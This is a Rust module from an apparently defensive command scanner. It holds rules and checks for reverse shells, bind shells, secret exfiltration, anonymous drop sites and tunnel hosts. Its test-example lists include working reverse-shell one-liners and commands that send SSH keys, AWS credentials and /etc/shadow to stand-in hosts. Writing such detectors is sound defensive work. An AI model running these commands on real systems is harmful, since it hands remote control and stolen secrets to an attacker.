//! Control from afar and data that leaves: reverse and bind shells as flows, secrets that reach the network.
//!
//! In: connections, listeners and sends, with what flows from and into them. Out: findings of the families
//! *remote-control* and *exfiltration*. Names of programs play no part: a shell whose input is a connection is one,
//! whatever made it.

use super::facts::{Power, power};
use super::unread::TYPED;
use super::{Category, Facts, Findings, Rule};
use crate::effect::path::{Class, Mark};
use crate::effect::{Effect, Object, Props, Verb};
use crate::finding::{Confidence, Severity};
use crate::url::{HostKind, Reach};
use crate::value::Why;

/// Verbs that take content, or a name that holds content, out of the machine.
const LEAVES: &[Verb] = &[
    Verb::Clone,
    Verb::Send,
    Verb::Fetch,
    Verb::Probe,
    Verb::Connect,
    Verb::Clone,
    Verb::Publish,
    Verb::VcsPush,
    Verb::Write,
    Verb::Append,
];

/// What makes a file secret enough that sending it is a finding.
const SECRETS: &[Mark] = &[Mark::Credential, Mark::Accounts, Mark::ProcessMemory, Mark::History];

pub(super) const RULES: &[Rule] = &[
    Rule {
        id: "reverse_shell",
        title: "Reverse shell",
        severity: Severity::Critical,
        confidence: Confidence::High,
        category: Category::RemoteControl,
        mitre: Some("T1059.004"),
        floor: false,
        description: "A shell or interpreter takes its commands from a network connection: whoever is at the other end controls \
                      this machine with your rights. To work on another machine use ssh.",
        remediation: "Use ssh, with keys, to work on another machine.",
        good: &["ssh host ls", "nc -zv host.example 443", "echo hi | nc host.example 9000", "curl https://e.example/"],
        bad: &[
            "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
            "nc -e /bin/sh 203.0.113.9 4444",
            "rm f; mkfifo f; cat f | sh -i 2>&1 | nc 203.0.113.9 4444 > f",
            "exec 5<>/dev/tcp/203.0.113.9/4444; cat <&5 | while read l; do $l 2>&5 >&5; done",
            "nc 203.0.113.9 4444 | sh",
        ],
        check: reverse_shell,
    },
    Rule {
        id: "bind_shell",
        title: "Bind shell",
        severity: Severity::Critical,
        confidence: Confidence::High,
        category: Category::RemoteControl,
        mitre: Some("T1059.004"),
        floor: false,
        description: "A shell or interpreter is put behind an open port: anyone who reaches it controls this machine with your \
                      rights. To let others in use sshd.",
        remediation: "Use sshd, with keys, to let others in.",
        good: &["nc -l 8080", "python3 -m http.server 8000"],
        bad: &["nc -lvp 4444 -e /bin/bash", "socat TCP-LISTEN:4444,fork EXEC:/bin/sh", "nc -l 4444 | sh"],
        check: bind_shell,
    },
    Rule {
        id: "data_exfiltration",
        title: "Secrets leave the machine",
        severity: Severity::Critical,
        confidence: Confidence::High,
        category: Category::Exfiltration,
        mitre: Some("T1048"),
        floor: false,
        description: "The content of a file that holds secrets goes to a network address, where it cannot be taken back. Send \
                      public keys and redacted copies only.",
        remediation: "Do not send it; change the secret if it has been sent.",
        good: &[
            "curl -d @body.json https://api.example/x",
            "ssh-copy-id host",
            "cat ~/.ssh/id_rsa.pub | ssh host 'cat >> x'",
        ],
        bad: &[
            "curl -d @/home/u/.ssh/id_rsa https://e.example/",
            "cat ~/.aws/credentials | base64 | curl -X POST --data-binary @- https://e.example/",
            "curl \"https://e.example/?d=$(base64 ~/.ssh/id_rsa)\"",
            "tar cz ~/.ssh | nc e.example 9000",
            "ssh h.example \"echo $(cat ~/.aws/credentials)\"",
            "cd ~ && python3 -m http.server",
            "cat /etc/shadow > /dev/tcp/203.0.113.9/9000",
        ],
        check: |f, r, o| {
            exfiltration(f, r, o);
            super::sent::sent(f, r, o);
            super::sent::in_words(f, r, o);
            super::sent::served(f, r, o);
        },
    },
    Rule {
        id: "data_to_drop",
        title: "Data goes to an anonymous drop",
        severity: Severity::Medium,
        confidence: Confidence::Medium,
        category: Category::Exfiltration,
        mitre: Some("T1567"),
        floor: false,
        description: "Data goes to a service that takes anything from anyone, a paste site, file drop, request collector or \
                      tunnel, where others can read it. Send it to a place that is known to belong to the person it is for.",
        remediation: "Send it to a place whose owner is known.",
        good: &["curl https://transfer.sh/abc/x.txt -o x.txt", "curl -d @x.json https://api.example/"],
        bad: &["curl -F file=@notes.txt https://file.io", "curl --upload-file ./x.tgz https://transfer.sh/x.tgz"],
        check: drop_site,
    },
    Rule {
        id: "tunnel_open",
        title: "Machine is opened to the outside",
        severity: Severity::Medium,
        confidence: Confidence::Medium,
        category: Category::RemoteControl,
        mitre: Some("T1572"),
        floor: false,
        description: "A name is contacted that leads to somebody's own machine, or that tells its owner about every look-up. Use \
                      a host whose owner is known.",
        remediation: "Use a host whose owner is known.",
        good: &["ping example.com"],
        bad: &["curl https://abc.ngrok.io/x.sh -o x.sh", "nslookup x.oastify.com"],
        check: tunnel,
    },
];

/// True where the effect runs text with full power: a shell or a general language.
fn runs_commands(e: &Effect) -> bool {
    match (e.verb, &e.object) {
        (Verb::Evaluate, Object::Code(language, _)) => power(*language) == Power::Full,
        (Verb::Spawn | Verb::Execute, _) => true,
        _ => false,
    }
}

fn shells(facts: &Facts<'_>, rule: &'static Rule, out: &mut Findings, verb: Verb) {
    let wanted = [verb];
    for sink in facts.with(&[Verb::Evaluate, Verb::Execute, Verb::Spawn]).filter(|e| runs_commands(e)) {
        for (from, way) in facts.sources_with(sink, &wanted) {
            // What a client of a service is told is an answer, not somebody at the other end of a line.
            let client = facts.with(&[Verb::Inspect]).any(|i| i.process == from.process);
            if client || !super::execution::runs_it(sink, way) {
                continue;
            }
            let near = facts.address(from).is_some_and(|a| a.reach() == Reach::Loopback);
            out.add(
                rule.about(facts, sink)
                    .also_at(facts.command_place(from))
                    .also(from)
                    .severity(if near { Severity::High } else { rule.severity })
                    .title(format!("{}: {} from {}", rule.title, facts.name(sink), from.object.show()))
                    .evidence("flow", "takes its commands from the connection", facts.command_place(sink))
                    .evidence_as("host", "is the other end", from.object.show(), from.place)
                    .detail("via", way.shown()),
            );
        }
    }
    for e in facts.with(&wanted).filter(|e| connects_program(facts, e)) {
        // `nc -l 80 -c 'nc h 8080'` hands bytes on; nobody gets commands run by it.
        let severity = if is_relay(facts, e) { Severity::Info } else { rule.severity };
        out.add(
            rule.about(facts, e)
                .severity(severity)
                .title(format!("{}: {} {}", rule.title, facts.name(e), e.object.show()))
                .evidence("flow", "connects a program to the peer", facts.command_place(e))
                .evidence_as("host", "is the other end", e.object.show(), e.place),
        );
    }
}

/// True where all that a connection is given to are programs that only connect it on.
fn is_relay(facts: &Facts<'_>, e: &Effect) -> bool {
    let below =
        |p: &&crate::effect::graph::Process| p.id != e.process && facts.lineage(p.id).any(|q| q.id == e.process);
    let mut all = facts.graph.processes.iter().filter(below).peekable();
    let only = |p: &crate::effect::graph::Process| {
        let mut own = facts.effects().filter(|x| x.process == p.id).peekable();
        p.known && own.peek().is_some() && own.all(|x| x.verb == Verb::Connect)
    };
    all.peek().is_some() && all.all(only)
}

/// True where the process connects a program to its peer (`nc -e`, `socat TCP:… EXEC:…`).
fn connects_program(facts: &Facts<'_>, e: &Effect) -> bool {
    facts.props(e).has(Props::EXEC_PEER)
        || facts
            .with(&[Verb::Spawn, Verb::Evaluate, Verb::Execute])
            .any(|s| s.process == e.process && s.props.has(Props::EXEC_PEER))
}

fn reverse_shell(facts: &Facts<'_>, rule: &'static Rule, out: &mut Findings) {
    shells(facts, rule, out, Verb::Connect);
}

fn bind_shell(facts: &Facts<'_>, rule: &'static Rule, out: &mut Findings) {
    shells(facts, rule, out, Verb::Listen);
}

/// The host that an effect reaches is outside this machine and its network, as far as known.
fn leaves(facts: &Facts<'_>, e: &Effect) -> bool {
    match e.verb {
        Verb::Write | Verb::Append => facts.path(e).is_some_and(|p| p.class == Class::Network),
        // Copying to a host of one's own is what ssh and its kin are for; a secret that goes there is still one.
        _ => !matches!(facts.address(e).map(|a| a.reach()), Some(Reach::Loopback)),
    }
}

/// What is secret about an effect: the name of the file or variable.
fn secret_of(facts: &Facts<'_>, e: &Effect) -> Option<String> {
    match e.verb {
        Verb::Read => facts.path(e).filter(|p| p.marks.any(SECRETS)).map(|p| p.text.clone()),
        Verb::Inspect if matches!(e.object, Object::Stated(TYPED)) => Some("the history of commands".into()),
        Verb::Secret => Some(e.object.show()).filter(|_| !matches!(e.object, Object::Named(..))),
        Verb::Fetch => facts.address(e).filter(|a| a.reach() == Reach::Metadata).map(|a| a.raw.clone()),
        _ => None,
    }
}

fn exfiltration(facts: &Facts<'_>, rule: &'static Rule, out: &mut Findings) {
    for sink in facts.with(LEAVES).filter(|e| leaves(facts, e)) {
        let target = match facts.path(sink) {
            Some(p) => p.text.clone(),
            None => sink.object.show(),
        };
        let mut found: Vec<(String, &Effect)> = Vec::new();
        for (from, _) in facts.sources_with(sink, &[Verb::Read, Verb::Secret, Verb::Fetch, Verb::Inspect]) {
            if let Some(name) = secret_of(facts, from)
                && from.id != sink.id
                && !found.iter().any(|(n, _)| *n == name)
            {
                found.push((name, from));
            }
        }
        for (name, from) in found {
            // The list of accounts is no secret by itself: anyone on the machine may read it.
            let accounts = from.verb == Verb::Inspect
                || facts.path(from).is_some_and(|p| !p.marks.any(&[Mark::Credential, Mark::ProcessMemory]));
            out.add(
                rule.about(facts, sink)
                    .also_at(facts.command_place(from))
                    .also(from)
                    .severity(if accounts { Severity::High } else { rule.severity })
                    .title(format!("{}: {name} → {target}", rule.title))
                    .evidence_as("path", "is read", &name, from.place)
                    .evidence_as("url", "is where it goes", &target, sink.place),
            );
        }
    }
}

fn drop_site(facts: &Facts<'_>, rule: &'static Rule, out: &mut Findings) {
    for e in facts.with(&[Verb::Send]) {
        let Some(a) = facts.address(e) else { continue };
        let kinds = [HostKind::Paste, HostKind::Upload, HostKind::Webhook, HostKind::Tunnel, HostKind::Onion];
        let Some(what) = kinds.iter().find_map(|k| a.kind(*k)) else { continue };
        // A message of one's own to a chat is what webhooks are for.
        let own_words = a.kind(HostKind::Webhook).is_some() && e.inputs.is_empty();
        if own_words {
            continue;
        }
        out.add(
            rule.about(facts, e)
                .title(format!("{}: {}", rule.title, a.host_shown()))
                .evidence_as("host", what, &a.raw, e.place),
        );
    }
}

fn tunnel(facts: &Facts<'_>, rule: &'static Rule, out: &mut Findings) {
    for e in facts.with(&[Verb::Fetch, Verb::Connect, Verb::Probe, Verb::Clone, Verb::Send]) {
        let Some(a) = facts.address(e) else { continue };
        let kinds = [HostKind::Tunnel, HostKind::Callback, HostKind::Onion];
        let Some(what) = kinds.iter().find_map(|k| a.kind(*k)) else { continue };
        let carries = matches!(e.object.value(), Some(v) if v.pieces.iter().any(|p| {
            matches!(p, crate::value::Piece::Unknown(u) if matches!(u.why, Why::Output(_) | Why::Names(_) | Why::File(_)))
        }));
        out.add(
            rule.about(facts, e)
                .severity(if carries { Severity::High } else { rule.severity })
                .title(format!("{}: {}", rule.title, a.host_shown()))
                .evidence_as("host", what, &a.raw, e.place),
        );
    }
}
